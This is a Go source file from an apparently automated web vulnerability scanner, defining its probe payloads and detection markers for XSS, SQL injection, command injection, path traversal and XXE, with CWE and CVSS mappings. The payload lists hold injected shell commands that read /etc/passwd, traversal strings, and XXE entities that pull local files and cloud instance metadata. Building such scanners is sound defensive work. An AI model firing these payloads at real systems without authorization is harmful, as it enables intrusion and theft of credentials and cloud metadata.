package scanner

import (
	"regexp"
	"strings"

	"github.com/AsHfIEXE/cybersage/internal/finding"
)

// attackClasses is the deterministic class order tried at every injection
// point, so reruns find the same class first.
var attackClasses = []finding.Class{
	finding.ClassXSS,
	finding.ClassSQLi,
	finding.ClassCommand,
	finding.ClassPathTraversal,
	finding.ClassXXE,
}

// xssPayloads span HTML body, tag attribute and script contexts.
var xssPayloads = []string{
	"<script>alert(1)</script>",
	"\"><script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)>",
	"javascript:alert(1)",
	"<body onload=alert(1)>",
	"'><script>alert(1)</script>",
	"<iframe src=javascript:alert(1)>",
	"<input onfocus=alert(1) autofocus>",
	"<marquee onstart=alert(1)>",
}

// sqliTest couples a payload with its detection technique.
type sqliTest struct {
	payload   string
	technique string
	detection string // error, differential, time
}

var sqliTests = []sqliTest{
	{"'", "Error-based", "error"},
	{"' OR '1'='1", "Boolean-based", "differential"},
	{"' OR '1'='1' --", "Boolean-based (with comment)", "differential"},
	{"1' AND '1'='2", "Boolean-based (false)", "differential"},
	{"' OR SLEEP(5) --", "Time-based blind", "time"},
	{"'; WAITFOR DELAY '00:00:05'--", "Time-based blind", "time"},
}

// sqlErrorPatterns match the error pages of the common database engines.
var sqlErrorPatterns = []*regexp.Regexp{
	regexp.MustCompile(`(?i)SQL syntax.*?error`),
	regexp.MustCompile(`(?i)You have an error in your SQL syntax`),
	regexp.MustCompile(`mysql_fetch`),
	regexp.MustCompile(`mysqli`),
	regexp.MustCompile(`ORA-\d{5}`),
	regexp.MustCompile(`(?i)PostgreSQL.*?ERROR`),
	regexp.MustCompile(`SQLSTATE\[\w+\]`),
	regexp.MustCompile(`(?i)sqlite`),
	regexp.MustCompile(`SQLServer`),
	regexp.MustCompile(`(?i)Database error`),
}

var commandPayloads = []string{
	"; ls",
	"| ls",
	"& dir",
	"&& whoami",
	"`id`",
	"$(whoami)",
	"; sleep 5",
	"| sleep 5",
	"; cat /etc/passwd",
	"& ping -n 5 127.0.0.1",
}

// commandMarkers are enumerator output fragments on unix and windows.
var commandMarkers = []string{
	"uid=", "gid=", "groups=", "root:", "bin:",
	"drwx", "total ", "Directory of", "Volume in drive",
}

var traversalPayloads = []string{
	"../../../etc/passwd",
	"..\\..\\..\\windows\\win.ini",
	"....//....//etc/passwd",
	"file:///etc/passwd",
	"..%2f..%2f..%2fetc%2fpasswd",
	"..%252f..%252f..%252fetc%252fpasswd",
	"/var/www/../../etc/passwd",
	"C:\\..\\..\\windows\\win.ini",
	"..;/..;/..;/etc/passwd",
	"..//..//..//etc/passwd",
}

// traversalMarkers prove a system file ended up in the response.
var traversalMarkers = []string{
	"root:x:", "daemon:", "[boot loader]", "[fonts]",
	"[extensions]", "for 16-bit app support",
}

// xxePayloads are external-entity DTDs against local files and cloud
// metadata. Only attempted on POST targets, with Content-Type
// application/xml.
var xxePayloads = []string{
	`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM "file:///etc/passwd">]><root>&test;</root>`,
	`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
	`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM "http://169.254.169.254/latest/meta-data/">]><root>&test;</root>`,
}

var xxeMarkers = []string{"root:", "ami-id"}

// classPayloads returns the payload list for a class at a given point.
func classPayloads(class finding.Class, method string) []string {
	switch class {
	case finding.ClassXSS:
		return xssPayloads
	case finding.ClassSQLi:
		payloads := make([]string, len(sqliTests))
		for i, t := range sqliTests {
			payloads[i] = t.payload
		}
		return payloads
	case finding.ClassCommand:
		return commandPayloads
	case finding.ClassPathTraversal:
		return traversalPayloads
	case finding.ClassXXE:
		if method != "POST" {
			return nil
		}
		return xxePayloads
	}
	return nil
}

// isTimingPayload reports whether detection of this payload depends on
// observed response time.
func isTimingPayload(payload string) bool {
	lower := strings.ToLower(payload)
	return strings.Contains(lower, "sleep") || strings.Contains(lower, "waitfor")
}

// classCWE maps each class onto its weakness ID.
func classCWE(class finding.Class) string {
	switch class {
	case finding.ClassXSS:
		return "CWE-79"
	case finding.ClassSQLi:
		return "CWE-89"
	case finding.ClassCommand:
		return "CWE-78"
	case finding.ClassPathTraversal:
		return "CWE-22"
	case finding.ClassXXE:
		return "CWE-611"
	}
	return ""
}

// classCVSS is the default score assigned before manual triage.
func classCVSS(class finding.Class) float64 {
	switch class {
	case finding.ClassXSS:
		return 7.1
	case finding.ClassSQLi:
		return 9.8
	case finding.ClassCommand:
		return 9.8
	case finding.ClassPathTraversal:
		return 7.5
	case finding.ClassXXE:
		return 8.2
	}
	return 0
}

// classSeverity is the default severity per class.
func classSeverity(class finding.Class) finding.Severity {
	switch class {
	case finding.ClassSQLi, finding.ClassCommand:
		return finding.SeverityCritical
	default:
		return finding.SeverityHigh
	}
}
